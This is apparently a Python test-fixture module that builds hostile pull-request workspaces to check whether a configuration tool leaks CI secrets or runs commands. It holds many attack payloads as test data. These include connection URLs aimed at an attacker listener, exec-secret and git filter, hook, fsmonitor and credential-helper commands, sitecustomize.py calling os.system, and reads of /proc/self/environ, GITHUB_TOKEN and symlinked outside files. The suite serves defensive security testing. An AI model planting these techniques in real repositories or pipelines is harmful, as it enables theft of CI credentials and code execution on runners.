"""Hostile workspaces: what a pull request can put into the folder, and what the job has beside it.

Texts can contain `@EVIL@` (URL of the attacker), `@URL@` and `@ORG@` (the service), `@OUTSIDE@` (a
folder beside the repository) and `@TOUCH@` (a command that leaves a file).
"""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from hashlib import sha256
from pathlib import Path
from typing import Any, Literal, TypeAlias

from tests.security.witness import Listener
from tests.support.cli import write
from tests.support.emulator import RunningEmulator
from tests.support.git import Git

MARK = "c4n4ry"
"""What every secret of the job contains, and nothing else."""
CANARIES = {
    "GITHUB_TOKEN": f"ghs-{MARK}-token",
    "ACTIONS_RUNTIME_TOKEN": f"{MARK}-runtime",
    "AWS_SECRET_ACCESS_KEY": f"{MARK}/aws+secret",
    "PLAIN": f"{MARK}-plain",
    "RECONCILER_SECRET_DB": f"{MARK}-database",
}
HOSTS = (
    {"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": "pull_request", "GITHUB_BASE_REF": "main"},
    {"GITLAB_CI": "true", "CI_DEFAULT_BRANCH": "main", "CI_JOB_TOKEN": f"{MARK}-job"},
    {"TF_BUILD": "True", "SYSTEM_PULLREQUEST_TARGETBRANCH": "refs/heads/main"},
    {"JENKINS_URL": "https://jenkins.example", "CHANGE_TARGET": "main"},
)
"""The variables of a pull request by runner. Every case runs on one of them."""
WEB = "projects: {web: {name: Web}}\n"
FROM_VARIABLES = "version: 1\n"
FROM_FILE = """\
version: 1
default: prod
environments:
  prod: {base_url: "@URL@", organization: "@ORG@", api_key: "${env:PIPELINE_KEY}"}
"""


@dataclass(frozen=True)
class Site:
    """A job on a pull request: a clone with the workspace, and files that are not part of it."""

    git: Git
    folder: Path
    outside: Path
    touched: Path
    evil: Listener
    running: RunningEmulator

    def fill(self, text: str) -> str:
        """Replace the names of places in a text."""
        values = {
            "@EVIL@": self.evil.url,
            "@PORT@": str(self.evil.port),
            "@URL@": self.running.base_url,
            "@ORG@": self.running.organization,
            "@OUTSIDE@": str(self.outside),
            "@TOUCH@": f"touch {self.touched}/ran",
        }
        for name, value in values.items():
            text = text.replace(name, value)
        return text

    def write(self, files: Mapping[str, str]) -> None:
        """Write files into the workspace."""
        write(self.folder, {name: self.fill(text) for name, text in files.items()})

    def link(self, name: str, target: str) -> None:
        """Make a symbolic link in the workspace."""
        path = self.folder / name
        path.unlink(missing_ok=True)
        path.symlink_to(self.fill(target))


Expected: TypeAlias = Literal["error", "plan", "warning"]
"""What `plan` does: refuse, plan, or plan and say what takes effect only after the merge."""


@dataclass(frozen=True)
class Case:
    """One hostile workspace.

    `trusted` is `reconciler.yaml` on the trusted branch, `at` the folder of the workspace in the
    repository. `prepare` does what files cannot show, before the commit of the pull request and
    `after` it.
    """

    name: str
    files: Mapping[str, str] = field(default_factory=dict)
    expected: Expected = "error"
    trusted: str = FROM_VARIABLES
    at: str = "w"
    prepare: Callable[[Site], object] = lambda _: None
    after: Callable[[Site], object] = lambda _: None
    environ: Mapping[str, str] = field(default_factory=dict)


def make_site(case: Case, folder: Path, evil: Listener, running: RunningEmulator) -> Site:
    """Make the clone of a job that checks the pull request of a case."""
    outside, touched = folder / "outside", folder / "touched"
    outside.mkdir(parents=True)
    touched.mkdir()
    write(
        outside,
        {
            "secret.txt": f"{MARK}-file\n",
            "export.yaml": f"projects: {{foreign: {{name: {MARK}-foreign}}}}\n",
            "reconciler.yaml": f"version: 1\nvars: {{x: {MARK}-vars}}\n",
        },
    )
    git = Git(folder / "repo")
    site = Site(git, git.folder / case.at, outside, touched, evil, running)
    shutil.copytree(_trusted(case, site, folder.parent), git.folder)
    site.write(case.files)
    case.prepare(site)
    git.commit("attack", day=2)
    case.after(site)
    return site


def _trusted(case: Case, site: Site, cache: Path) -> Path:
    """Return a clone that is on the trusted branch, made once for all cases with the same one."""
    files = {"reconciler.yaml": site.fill(case.trusted), "web.yaml": WEB}
    name = sha256(f"{files} {case.at}".encode()).hexdigest()
    folder = cache / f"trusted-{name[:16]}"
    if folder.exists():
        return folder
    git = Git.init(folder)
    write(folder / case.at, files)
    git.commit("trusted", day=1)
    git.run("update-ref", "refs/remotes/origin/main", "HEAD")
    git.run("symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/main")
    git.run("checkout", "--quiet", "-b", "attack")
    # As some checkouts do: the token of the job is in the configuration of the clone.
    git.run("config", "http.extraheader", f"AUTHORIZATION: basic {MARK}-git")
    return folder


def environ_of(case: Case, site: Site) -> dict[str, str]:
    """Return the variables of the job."""
    running = site.running
    key = {"PIPELINE_KEY": running.api_key}
    return {
        "CI": "true",
        **HOSTS[len(case.name) % len(HOSTS)],
        "GITHUB_WORKSPACE": str(site.git.folder),
        **CANARIES,
        **(key if "api_key" in case.trusted else running.environ()),
        **{name: site.fill(value) for name, value in case.environ.items()},
    }


def _workspace(name: str, head: str, **more: Any) -> Case:
    """Return a case whose workspace file begins with its version."""
    return Case(name, {"reconciler.yaml": f"version: 1\n{head}"}, **more)


def _connected(
    name: str, trusted: str = FROM_VARIABLES, expected: Expected = "error", **lines: str
) -> Case:
    """Return a case whose environment `prod` sets the connection."""
    own = "".join(f"    {key}: '{value}'\n" for key, value in lines.items())
    head = f"default: prod\nenvironments:\n  prod:\n{own}"
    return _workspace(name, head, trusted=trusted, expected=expected)


def _project(name: str, fields: str, head: str = "", **more: Any) -> Case:
    """Return a case with some fields of a project. `head` extends the workspace."""
    files = {
        "reconciler.yaml": f"version: 1\n{head}",
        "web.yaml": f"projects: {{web: {{{fields}}}}}\n",
    }
    return Case(name, files, **more)


def _named(name: str, reference: str, head: str = "", **more: Any) -> Case:
    """Return a case with a reference in the name of a project."""
    return _project(name, f"name: 'x {reference}'", head, **more)


def _secret(name: str, reference: str, head: str = "", **more: Any) -> Case:
    """Return a case with an export that takes its password from a reference."""
    export = (
        "batch_exports:\n  lake:\n    project: web\n    name: Lake\n    interval: hour\n"
        "    destination:\n      type: Postgres\n      config:\n"
        "        {user: '${secret:env:RECONCILER_SECRET_DB}', host: h.example.com, database: d, "
        f"schema: s, table_name: t, password: '{reference}'}}\n"
    )
    files = {"reconciler.yaml": f"version: 1\n{head}", "lake.yaml": export}
    return Case(name, files, **more)


def _move_outside(site: Site) -> None:
    """Replace the workspace by a link to a folder that looks like one."""
    shutil.rmtree(site.folder)
    site.folder.symlink_to(site.outside)


_BY_PARTS = 'vars: {url: "@URL@"}\n' + FROM_FILE.replace('"@URL@"', '"${var:url}"')
"""A connection whose address is made of variables."""
_EXEC = "policy: {allow_exec_secrets: true}\n"
_ALLOWED = {"RECONCILER_ALLOW_EXEC": "1"}
_TOUCH = '${secret:exec:sh -c "@TOUCH@; echo k"}'
_MERGED = FROM_FILE.replace('base_url: "@URL@",', "<<: *x,").replace(
    "default:", 'vars: {x: &x {base_url: "@EVIL@"}}\ndefault:'
)
_NEW_DEFAULT = (
    FROM_FILE.replace("default: prod", "default: evil")
    + '  evil: {base_url: "@EVIL@", organization: o, api_key: "${env:PIPELINE_KEY}"}\n'
)


def _replaced(name: str, text: str, trusted: str = FROM_FILE, **more: Any) -> Case:
    """Return a case with another workspace file than the trusted one."""
    return Case(name, {"reconciler.yaml": text}, trusted=trusted, **more)


CONNECTIONS = (
    _connected("other host", base_url="@EVIL@"),
    _connected("other host with its own key", base_url="@EVIL@", api_key="${env:PLAIN}"),
    _connected("service as user information", base_url="http://localhost:80@127.0.0.1:@PORT@"),
    _connected("host that needs a lookup", base_url="https://attacker.example"),
    _connected("variable in the path", base_url="@URL@/${env:GITHUB_TOKEN}"),
    _connected("variable as organization", organization="${env:PLAIN}"),
    _connected("path as organization", organization="../../../_emulator/state"),
    _connected("token of the runner as key", api_key="${env:GITHUB_TOKEN}"),
    _connected("foreign file as key", api_key="${secret:file:@OUTSIDE@/secret.txt}"),
    _connected("other host, trusted file", FROM_FILE, "warning", base_url="@EVIL@"),
    _replaced("other host, trusted key", FROM_FILE.replace("@URL@", "@EVIL@"), expected="warning"),
    _connected("other key, trusted file", FROM_FILE, api_key="${env:GITHUB_TOKEN}"),
    _workspace(
        "key from a command",
        f"{_EXEC}environments: {{p: {{api_key: '{_TOUCH}'}}}}\n",
        expected="warning",
    ),
    _workspace(
        "key from a command, allowed by the environment",
        f"environments:\n  p: {{policy: {{allow_exec_secrets: true}}, api_key: '{_TOUCH}'}}\n",
        expected="warning",
        environ=_ALLOWED,
    ),
    _replaced("new default environment", _NEW_DEFAULT),
    _replaced("address by a merge key", _MERGED, expected="warning"),
    _replaced("address twice", FROM_FILE.replace("{base_url", '{base_url: "@EVIL@", base_url', 1)),
    _workspace(
        "environment named like an option",
        'default: --trust-workspace\nenvironments: {--trust-workspace: {base_url: "@EVIL@"}}\n',
    ),
    _replaced(
        "variable of the address",
        _BY_PARTS.replace("@URL@", "@EVIL@"),
        _BY_PARTS,
        expected="warning",
    ),
    _replaced(
        "variable of the address for one environment",
        _BY_PARTS.replace("{base_url", '{vars: {url: "@EVIL@"}, base_url'),
        _BY_PARTS,
        expected="warning",
    ),
    Case(
        "file of the address",
        {"url.txt": "@EVIL@"},
        trusted=FROM_FILE.replace("@URL@", "${file:url.txt}"),
    ),
    Case(
        "workspace file that is a link",
        prepare=lambda site: site.link("reconciler.yaml", "@OUTSIDE@/reconciler.yaml"),
    ),
)

VARIABLES = (
    _named("plain variable, declared by the pull request", "${env:PLAIN}", "env: [PLAIN]\n"),
    _named("variable in variables", "${var:x}", "vars: {x: '${env:PLAIN}'}\nenv: [PLAIN]\n"),
    _named("variable by an anchor", "${var:y}", "vars: {x: &x '${env:PLAIN}', y: *x}\n"),
    _named("variable as default", "${env:NONE:-${env:PLAIN}}"),
    _named("variable as path", "${file:${env:PLAIN}}", "env: [PLAIN]\n"),
    _project("variable in an enumeration", "name: Web, timezone: '${env:PLAIN}'", "env: [PLAIN]\n"),
    _workspace(
        "variable in defaults",
        "env: [PLAIN]\ndefaults: {project: {timezone: '${env:PLAIN}'}}\n",
    ),
    _project(
        "variable in overrides",
        "name: W, overrides: {p: {name: '${env:PLAIN}'}}",
        "env: [PLAIN]\nenvironments: {p: {}}\n",
    ),
)

COMMANDS = (
    _secret("command", _TOUCH),
    _secret("command, allowed by the pull request", _TOUCH, _EXEC, expected="warning"),
    _secret("command, allowed by the job too", _TOUCH, _EXEC, expected="warning", environ=_ALLOWED),
    Case(
        "attributes of git",
        {
            ".gitattributes": "* filter=x diff=x merge=x\n*.yaml textconv=x\n",
            ".gitconfig": '[filter "x"]\n  smudge = @TOUCH@\n[diff "x"]\n  textconv = @TOUCH@\n',
            ".gitmodules": '[submodule "x"]\n path = x\n url = ext::@TOUCH@\n update = !@TOUCH@\n',
        },
        "plan",
    ),
    Case(
        "modules for the interpreter",
        {
            f"{name}.py": "import os; os.system('@TOUCH@')\n"
            for name in ("sitecustomize", "click", "yaml", "httpx", "conftest", "reconciler")
        },
        "plan",
    ),
    Case(
        "schemas with remote references",
        {
            ".reconciler/resources.schema.json": '{"$ref": "@EVIL@/schema.json"}',
            ".reconciler/workspace.schema.json": '{"$ref": "@EVIL@/schema.json"}',
            "web.yaml": f"# yaml-language-server: $schema=@EVIL@/schema.json\n{WEB}",
        },
        "plan",
    ),
)

FILES = (
    _named("variables of the process", "${file:/proc/self/environ}"),
    _named("declared folder of secrets", "${file:@OUTSIDE@/secret.txt}", "secret_files: [/]\n"),
    _secret(
        "declared folder of secrets for a secret",
        "${secret:file:@OUTSIDE@/secret.txt}",
        "secret_files: [/]\n",
        expected="warning",
    ),
    _secret(
        "link in place of a trusted folder of secrets",
        "${secret:file:keys/secret.txt}",
        "secret_files: [keys]\n",
        expected="plan",
        prepare=lambda site: site.link("keys", "@OUTSIDE@"),
        trusted=f"{FROM_VARIABLES}secret_files: [keys]\n",
    ),
    _named(
        "link to a folder",
        "${file:proc/environ}",
        prepare=lambda site: site.link("proc", "/proc/self"),
    ),
    _named(
        "chain of links",
        "${file:b}",
        prepare=lambda site: (site.link("a", "@OUTSIDE@/secret.txt"), site.link("b", "a")),
    ),
    _workspace("resources above", "resources: ['../../outside/*.yaml']\n"),
    _workspace("resources elsewhere", "resources: ['@OUTSIDE@/*.yaml']\n"),
    Case("resources by a link", prepare=lambda s: s.link("x.yaml", "@OUTSIDE@/export.yaml")),
    Case("resources by a link with errors", prepare=lambda s: s.link("x.yaml", "../.git/config")),
    Case("link as the folder", prepare=_move_outside),
    Case("pipe as a resource", after=lambda s: os.mkfifo(s.folder / "x.yaml")),
    _named("pipe as a file", "${file:pipe}", after=lambda s: os.mkfifo(s.folder / "pipe")),
)


def _bare_repository(site: Site) -> None:
    """Make the workspace look like a bare repository that fetches lazily by a command."""
    shutil.copytree(site.git.folder / ".git/refs", site.folder / "refs")
    (site.folder / "objects").mkdir()
    (site.folder / "objects/keep").touch()
    settings = (
        "[core]\n repositoryformatversion = 1\n bare = true\n fsmonitor = @TOUCH@\n"
        " worktree = /\n[extensions]\n partialClone = origin\n"
        '[remote "origin"]\n url = file:///none\n promisor = true\n uploadpack = @TOUCH@\n'
    )
    site.write({"HEAD": "ref: refs/heads/main\n", "config": settings})


def _submodule(site: Site, modules: str = ".git/modules/w") -> None:
    """Put a submodule with its own trusted branch in the place of the workspace."""
    evil = site.fill(
        'version: 1\ndefault: prod\nenvironments: {prod: {base_url: "@EVIL@", '
        'organization: o, api_key: "${env:PIPELINE_KEY}"}}\n'
    )
    shutil.rmtree(site.folder)
    own = Git.init(site.folder)
    site.write({"reconciler.yaml": evil, "web.yaml": WEB})
    own.commit("evil")
    own.run("update-ref", "refs/remotes/origin/main", "HEAD")
    own.run("symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/main")
    target = site.git.folder / modules
    target.parent.mkdir(parents=True, exist_ok=True)
    (site.folder / ".git").rename(target)
    (site.folder / ".git").write_text(f"gitdir: {target}\n")
    own.run("config", "core.worktree", str(site.folder))


def _evil_commit(site: Site) -> str:
    """Return a commit in which everything is allowed and the address is the attacker's."""
    text = site.fill(
        "version: 1\ndefault: prod\npolicy: {allow_exec_secrets: true}\nenvironments:"
        ' {prod: {base_url: "@EVIL@", organization: o, api_key: "${env:PIPELINE_KEY}"}}\n'
    )
    (site.folder / "reconciler.yaml").write_text(text)
    return site.git.commit("evil")


def _renamed(name: str, ref: str) -> Case:
    """Return a case with a reference that names an evil commit, which the workspace then equals."""

    def prepare(site: Site) -> None:
        site.git.run("update-ref", ref, _evil_commit(site))

    return Case(name, prepare=prepare, expected="warning", trusted=FROM_FILE)


def _old_base(site: Site) -> None:
    """Let the pull request branch off an old commit of the trusted branch."""
    text = site.fill(FROM_FILE)
    old = _evil_commit(site)
    (site.folder / "reconciler.yaml").write_text(text)
    site.git.run("update-ref", "refs/remotes/origin/main", site.git.commit("mended"))
    site.git.run("checkout", "--quiet", "--force", "-B", "attack", old)
    site.git.run("config", "branch.attack.merge", "refs/heads/attack")


def _settings_of_git(site: Site) -> None:
    """Let the configuration of the clone start commands wherever git allows it."""
    command = site.fill("@TOUCH@")
    for name in ("core.fsmonitor", "core.sshCommand", "core.pager", "core.editor", "core.askPass"):
        site.git.run("config", name, command)
    site.git.run("config", "credential.helper", f"!{command}")
    site.git.run("config", "filter.x.smudge", command)
    site.git.run("config", "filter.x.clean", "cat")
    site.git.run("config", "diff.x.textconv", command)
    site.git.run("config", "diff.external", command)
    site.git.run("config", "core.worktree", str(site.outside))


def _hooks(site: Site) -> None:
    """Install every hook that git might run."""
    names = "post-checkout post-index-change reference-transaction fsmonitor-watchman"
    for name in names.split():
        hook = site.git.folder / ".git/hooks" / name
        hook.parent.mkdir(exist_ok=True)
        hook.write_text(site.fill("#!/bin/sh\n@TOUCH@\n"))
        hook.chmod(0o755)


REPOSITORIES = (
    Case("bare repository in the folder", {}, "plan", FROM_FILE, prepare=_bare_repository),
    Case("submodule in place of the folder", after=_submodule, trusted=FROM_FILE),
    Case(
        "submodule by another path",
        trusted=FROM_FILE,
        after=lambda site: _submodule(site, "../elsewhere"),
    ),
    _renamed("tag named like the branch", "refs/tags/origin/main"),
    _renamed("branch named like the branch", "refs/heads/origin/main"),
    _renamed("names that contain the full name", "refs/tags/refs/remotes/origin/main"),
    _renamed("branch that contains the full name", "refs/heads/refs/remotes/origin/main"),
    _renamed("applied commit of the attacker", "refs/reconciler/w/prod"),
    Case(
        "replaced commit",
        {},
        "warning",
        FROM_FILE,
        after=lambda s: s.git.run("replace", "-f", "refs/remotes/origin/main", _evil_commit(s)),
    ),
    Case("old merge base", {}, "warning", FROM_FILE, after=_old_base),
    Case("settings of git", {}, "plan", FROM_FILE, after=_settings_of_git),
    Case("hooks of git", {}, "plan", FROM_FILE, after=_hooks),
    _replaced(
        "unreadable trusted workspace",
        FROM_FILE.replace("@URL@", "@EVIL@"),
        "version: [\n",
        environ={"PIPELINE_KEY": MARK},
    ),
    _replaced(
        "no trusted branch",
        FROM_FILE.replace("@URL@", "@EVIL@"),
        after=lambda s: s.git.run("update-ref", "-d", "refs/remotes/origin/main"),
    ),
    Case(
        "new workspace",
        after=lambda s: s.git.run(
            "update-ref",
            "refs/remotes/origin/main",
            s.git.run("commit-tree", "-m", "empty", s.git.run("mktree")),
        ),
        prepare=_evil_commit,
        trusted=FROM_FILE,
    ),
    Case(
        "looser policy and client",
        {
            "reconciler.yaml": "version: 1\npolicy: {prune: true, max_deletes: 1000, "
            "allow_project_deletion: true, allow_literal_secrets: true}\n"
            "client: {parallelism: 64, rate: false, timeout: 1h, max_wait: 10h, "
            "insecure_http: true}\n",
            "web.yaml": "projects: {web: {name: Default project, state: absent}}\n",
        },
        "warning",
    ),
)

CASES = (*CONNECTIONS, *VARIABLES, *COMMANDS, *FILES, *REPOSITORIES)
